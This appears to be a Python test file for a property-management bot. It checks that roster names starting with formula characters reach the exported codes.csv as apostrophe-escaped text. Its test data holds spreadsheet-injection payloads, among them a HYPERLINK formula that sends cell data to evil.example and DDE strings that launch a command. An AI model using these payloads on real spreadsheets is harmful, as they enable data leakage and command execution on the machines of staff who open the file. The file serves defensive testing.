"""Spreadsheet formula injection: a roster cell that starts like a formula must reach the
printed codes.csv as text, never as a formula Excel or WPS would evaluate when staff open it."""

from __future__ import annotations

import csv
from datetime import UTC, datetime, timedelta
from pathlib import Path

from bot.app.bootstrap import Runtime
from bot.services.roster import import_roster, issue_invite_codes, parse_roster, write_codes_csv

NOW = datetime(2026, 11, 23, tzinfo=UTC)
HEADER = "project,building,unit,owner_name,phone,id_last4,handover_date,area_m2\n"
HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"点击")': "1-0101",
    "+1+cmd|' /C calc'!A0": "1-0102",
    "-2+3": "1-0103",
    "@SUM(1+1)*cmd|' /C calc'!A0": "1-0104",
}


async def test_formula_cells_are_written_as_text(runtime: Runtime, tmp_path: Path) -> None:
    lines = [
        f'翠湖花园,1栋,{unit},"{name.replace(chr(34), chr(34) * 2)}",1380000010{i},123{i},,'
        for i, (name, unit) in enumerate(HOSTILE.items())
    ]
    parsed = parse_roster((HEADER + "\n".join(lines) + "\n").encode())
    assert parsed.errors == []
    await import_roster(runtime.uow, parsed.rows, NOW, dry_run=False)
    codes = await issue_invite_codes(
        runtime.uow,
        now=NOW,
        valid_until=NOW + timedelta(days=90),
        bot_username="DemoBot",
        only_new=False,
    )
    out = tmp_path / "codes.csv"
    write_codes_csv(out, codes)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        names = [row["owner_name"] for row in csv.DictReader(handle)]
    assert sorted(names) == sorted("'" + name for name in HOSTILE)
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
